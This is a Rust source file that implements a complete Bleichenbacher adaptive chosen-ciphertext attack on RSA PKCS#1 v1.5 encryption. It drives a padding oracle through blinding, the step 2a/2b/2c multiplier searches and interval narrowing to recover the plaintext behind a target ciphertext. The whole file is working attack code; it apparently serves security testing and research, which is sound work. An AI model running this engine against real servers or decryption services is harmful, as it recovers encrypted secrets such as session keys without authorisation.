// Bleichenbacher attack engine - adaptive chosen-ciphertext attack against
// RSA PKCS#1 v1.5 encryption
//
// Recovers the plaintext behind an RSA ciphertext given nothing but a padding
// oracle, via the four-step search from Bleichenbacher's CRYPTO '98 paper:
// 1. Blinding: find s0 so that the blinded ciphertext decrypts conformant
// 2. Search the next conformant multiplier si (strategies 2a / 2b / 2c)
// 3. Narrow the candidate plaintext intervals with the found si
// 4. Terminate once a single one-element interval remains
//
// The engine issues one oracle query at a time and keeps its whole state on
// the struct, so a failed query leaves it resumable: calling attack again
// re-tests the exact candidate whose answer never arrived.

use crate::Result;
use crate::attack::interval::{Interval, narrow_intervals};
use crate::attack::query::QueryBuilder;
use crate::attack::{AttackProgress, CancelToken};
use crate::constants::MIN_BLOCK_SIZE;
use crate::error::AttackError;
use crate::key::RsaPublicKey;
use crate::math::{ceil_div, floor_div, mod_inverse};
use crate::oracle::Pkcs1Oracle;
use num_bigint::BigUint;
use num_traits::{One, Zero};
use serde::{Deserialize, Serialize};
use tracing::{debug, info, trace};

/// Outcome of a successful attack run
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackOutcome {
    /// Recovered plaintext as an integer
    pub solution: BigUint,
    /// Recovered plaintext, big-endian, leading zeros stripped
    ///
    /// The PKCS#1 framing is left intact; unwrapping it is the caller's job.
    pub solution_bytes: Vec<u8>,
    /// Blinding factor found in step 1 (one when blinding was skipped)
    pub s0: BigUint,
    /// Number of termination tests performed
    pub iterations: u64,
    /// Total oracle queries issued
    pub oracle_queries: u64,
}

/// Which flavor of the multiplier search applies this iteration
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SearchStrategy {
    /// First iteration: linear scan from `⌈n / 3B⌉` upward (step 2a)
    Initial,
    /// Several intervals left: keep scanning from the previous `si` (step 2b)
    MultiInterval,
    /// One interval left: scan `(r, s)` windows derived from it (step 2c)
    SingleInterval,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    Blinding,
    Searching,
    Narrowing,
    Done,
}

/// Step 2c scan state: candidates run from `si` up to `upper` for the
/// current wrap count `r`
#[derive(Debug, Clone)]
struct ScanWindow {
    r: BigUint,
    upper: BigUint,
}

/// Bleichenbacher attack engine over a padding oracle
#[derive(Debug)]
pub struct BleichenbacherAttack<O: Pkcs1Oracle> {
    oracle: O,
    builder: QueryBuilder,
    key: RsaPublicKey,
    block_size: usize,
    big_b: BigUint,
    /// Target ciphertext as an integer
    c: BigUint,
    /// Blinded ciphertext the search runs against
    c0: BigUint,
    /// Blinding factor
    s0: BigUint,
    /// Current multiplier candidate
    si: BigUint,
    intervals: Vec<Interval>,
    iteration: u64,
    phase: Phase,
    /// A step-1/step-2 scan is in flight; its candidate state is live
    search_active: bool,
    /// `si` has been selected but its oracle answer is still outstanding
    pending: bool,
    window: Option<ScanWindow>,
    max_queries: Option<u64>,
    cancel: Option<CancelToken>,
    outcome: Option<AttackOutcome>,
}

impl<O: Pkcs1Oracle> BleichenbacherAttack<O> {
    /// Set up an attack against `ciphertext`.
    ///
    /// With `msg_is_pkcs` the target is trusted to already decrypt to a
    /// conformant block and the blinding step is skipped with `s0 = 1`.
    pub fn new(ciphertext: &[u8], oracle: O, msg_is_pkcs: bool) -> Result<Self> {
        let key = oracle.public_key().clone();
        let block_size = oracle.block_size();
        let modulus_bits = key.modulus().bits();

        if block_size < MIN_BLOCK_SIZE
            || &(BigUint::one() << (8 * block_size)) < key.modulus()
        {
            return Err(AttackError::InvalidBlockSize {
                block_size,
                modulus_bits,
            });
        }
        let big_b = BigUint::one() << (8 * (block_size - 2));
        // the conformant band [2B, 3B - 1] must consist of residues of n
        if &(&big_b * 3u32) > key.modulus() {
            return Err(AttackError::InvalidBlockSize {
                block_size,
                modulus_bits,
            });
        }

        let c = BigUint::from_bytes_be(ciphertext);
        if &c >= key.modulus() {
            return Err(AttackError::InputTooLarge {
                len: ciphertext.len(),
            });
        }

        let builder = QueryBuilder::new(key.clone(), block_size, oracle.is_plaintext_oracle());

        let mut attack = Self {
            oracle,
            builder,
            key,
            block_size,
            big_b,
            c0: c.clone(),
            c,
            s0: BigUint::zero(),
            si: BigUint::zero(),
            intervals: Vec::new(),
            iteration: 0,
            phase: Phase::Blinding,
            search_active: false,
            pending: false,
            window: None,
            max_queries: None,
            cancel: None,
            outcome: None,
        };

        if msg_is_pkcs {
            debug!("step 1 skipped: message is treated as PKCS conforming");
            attack.s0 = BigUint::one();
            attack.intervals = vec![attack.full_band()];
            attack.iteration = 1;
            attack.phase = Phase::Searching;
        }
        Ok(attack)
    }

    /// Abort with an error once the oracle has answered this many queries.
    pub fn with_max_queries(mut self, limit: u64) -> Self {
        self.max_queries = Some(limit);
        self
    }

    /// Install a cooperative cancellation token.
    pub fn with_cancel_token(mut self, token: CancelToken) -> Self {
        self.cancel = Some(token);
        self
    }

    /// Run the attack to completion.
    ///
    /// Errors from the oracle propagate unchanged and leave the engine state
    /// valid; a repeated call resumes at the failed query. Once solved,
    /// further calls return the cached outcome without querying.
    pub async fn attack(&mut self) -> Result<AttackOutcome> {
        loop {
            match self.phase {
                Phase::Blinding => self.step_blinding().await?,
                Phase::Searching => self.step_search().await?,
                Phase::Narrowing => self.step_narrow()?,
                Phase::Done => {
                    if let Some(outcome) = &self.outcome {
                        return Ok(outcome.clone());
                    }
                    unreachable!("done without an outcome");
                }
            }
        }
    }

    /// Diagnostic snapshot of the current search state.
    pub fn progress(&self) -> AttackProgress {
        AttackProgress {
            iteration: self.iteration,
            oracle_queries: self.oracle.query_count(),
            s: self.si.clone(),
            intervals: self.intervals.clone(),
        }
    }

    /// Total oracle queries issued so far.
    pub fn query_count(&self) -> u64 {
        self.oracle.query_count()
    }

    /// The oracle this engine drives.
    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    /// Blinding factor `s0`; zero until step 1 completes.
    pub fn blinding_factor(&self) -> &BigUint {
        &self.s0
    }

    /// Blinded ciphertext `c0` the search runs against.
    pub fn blinded_ciphertext(&self) -> &BigUint {
        &self.c0
    }

    /// Block size every query is serialized to.
    pub fn block_size(&self) -> usize {
        self.block_size
    }

    /// Remaining candidate intervals.
    pub fn intervals(&self) -> &[Interval] {
        &self.intervals
    }

    // Step 1: find the smallest s0 >= 1 whose blinded ciphertext the oracle
    // accepts, then reset the interval set to the full conformant band.
    async fn step_blinding(&mut self) -> Result<()> {
        if !self.search_active {
            info!("step 1: blinding");
            self.si = BigUint::zero();
            self.window = None;
            self.pending = false;
            self.search_active = true;
        }
        loop {
            if !self.pending {
                self.si += 1u32;
                self.pending = true;
            }
            self.guard()?;
            let conformant = self.query(&self.c).await?;
            self.pending = false;
            if conformant {
                break;
            }
        }
        self.s0 = self.si.clone();
        self.c0 = self.builder.blinded(&self.c, &self.si);
        self.intervals = vec![self.full_band()];
        self.iteration = 1;
        self.search_active = false;
        self.phase = Phase::Searching;
        info!("step 1 complete ({} queries)", self.oracle.query_count());
        debug!("found s0: {}", self.s0);
        Ok(())
    }

    // Step 2: find the next multiplier the oracle accepts.
    async fn step_search(&mut self) -> Result<()> {
        if !self.search_active {
            match self.strategy() {
                SearchStrategy::Initial => {
                    info!("step 2a: starting the search");
                    self.si = ceil_div(self.key.modulus(), &(&self.big_b * 3u32));
                    self.window = None;
                    self.pending = true;
                }
                SearchStrategy::MultiInterval => {
                    info!("step 2b: searching with more than one interval left");
                    self.window = None;
                    self.pending = false;
                }
                SearchStrategy::SingleInterval => {
                    info!("step 2c: searching with one interval left");
                    self.init_window_scan();
                }
            }
            self.search_active = true;
        }
        loop {
            if !self.pending {
                self.advance_candidate();
                self.pending = true;
            }
            self.guard()?;
            let conformant = self.query(&self.c0).await?;
            self.pending = false;
            if conformant {
                break;
            }
        }
        self.search_active = false;
        debug!(
            "found s{}: {} ({} queries so far)",
            self.iteration,
            self.si,
            self.oracle.query_count()
        );
        self.phase = Phase::Narrowing;
        Ok(())
    }

    // Steps 3 and 4: narrow the interval set with the found multiplier, then
    // either extract the solution or go around again.
    fn step_narrow(&mut self) -> Result<()> {
        let narrowed = narrow_intervals(
            &self.intervals,
            &self.si,
            self.key.modulus(),
            &self.big_b,
        );
        if narrowed.is_empty() {
            return Err(AttackError::NoCandidates {
                iteration: self.iteration,
            });
        }
        debug!("M{}: {} interval(s)", self.iteration, narrowed.len());
        self.intervals = narrowed;

        if self.intervals.len() == 1 && self.intervals[0].is_singleton() {
            let n = self.key.modulus();
            let inverse = mod_inverse(&self.s0, n).ok_or(AttackError::NotInvertible)?;
            let solution = (&inverse * &self.intervals[0].lower) % n;
            let outcome = AttackOutcome {
                solution_bytes: solution.to_bytes_be(),
                solution,
                s0: self.s0.clone(),
                iterations: self.iteration,
                oracle_queries: self.oracle.query_count(),
            };
            info!(
                "solution found after {} iteration(s) and {} queries",
                outcome.iterations, outcome.oracle_queries
            );
            self.outcome = Some(outcome);
            self.phase = Phase::Done;
        } else {
            self.iteration += 1;
            self.phase = Phase::Searching;
        }
        Ok(())
    }

    fn strategy(&self) -> SearchStrategy {
        if self.iteration == 1 {
            SearchStrategy::Initial
        } else if self.intervals.len() >= 2 {
            SearchStrategy::MultiInterval
        } else {
            SearchStrategy::SingleInterval
        }
    }

    // Step 2c setup: derive the initial wrap count from the previous si and
    // position the candidate at the bottom of the first nonempty window.
    fn init_window_scan(&mut self) {
        let interval = self.intervals[0].clone();
        let n = self.key.modulus();
        // b * s >= 2B for any s >= 1 and any interval within the band
        let numerator = (&interval.upper * &self.si - &self.big_b * 2u32) * 2u32;
        let mut r = ceil_div(&numerator, n);
        let (mut lower, mut upper) = self.scan_window(&r, &interval);
        while lower > upper {
            r += 1u32;
            (lower, upper) = self.scan_window(&r, &interval);
        }
        self.si = lower;
        self.window = Some(ScanWindow { r, upper });
        self.pending = true;
    }

    // Candidate window for wrap count r over the last interval [a, b]:
    // si in [⌈(2B + r·n) / b⌉, ⌊(3B - 1 + r·n) / a⌋]. The divisor asymmetry
    // is deliberate and mirrors the 2B / 3B - 1 pairing.
    fn scan_window(&self, r: &BigUint, interval: &Interval) -> (BigUint, BigUint) {
        let n = self.key.modulus();
        let rn = r * n;
        let lower = ceil_div(&(&self.big_b * 2u32 + &rn), &interval.upper);
        let upper = floor_div(
            &(&self.big_b * 3u32 - BigUint::one() + &rn),
            &interval.lower,
        );
        (lower, upper)
    }

    // Move si to the next untested candidate under the current strategy.
    fn advance_candidate(&mut self) {
        self.si += 1u32;
        if let Some(mut window) = self.window.take() {
            if self.si > window.upper {
                let interval = self.intervals[0].clone();
                loop {
                    window.r += 1u32;
                    let (lower, upper) = self.scan_window(&window.r, &interval);
                    if lower <= upper {
                        self.si = lower;
                        window.upper = upper;
                        break;
                    }
                }
            }
            self.window = Some(window);
        }
    }

    // Consult cancellation and the query budget; called before every query.
    fn guard(&self) -> Result<()> {
        if let Some(token) = &self.cancel {
            if token.is_cancelled() {
                return Err(AttackError::Cancelled {
                    progress: Box::new(self.progress()),
                });
            }
        }
        if let Some(limit) = self.max_queries {
            if self.oracle.query_count() >= limit {
                return Err(AttackError::QueryLimitReached {
                    limit,
                    progress: Box::new(self.progress()),
                });
            }
        }
        Ok(())
    }

    async fn query(&self, base: &BigUint) -> Result<bool> {
        let block = self.builder.prepare(base, &self.si)?;
        trace!(
            "query #{}: {}",
            self.oracle.query_count() + 1,
            hex::encode(&block)
        );
        Ok(self.oracle.check_conformant(&block).await?)
    }

    fn full_band(&self) -> Interval {
        Interval::new(&self.big_b * 2u32, &self.big_b * 3u32 - BigUint::one())
    }
}
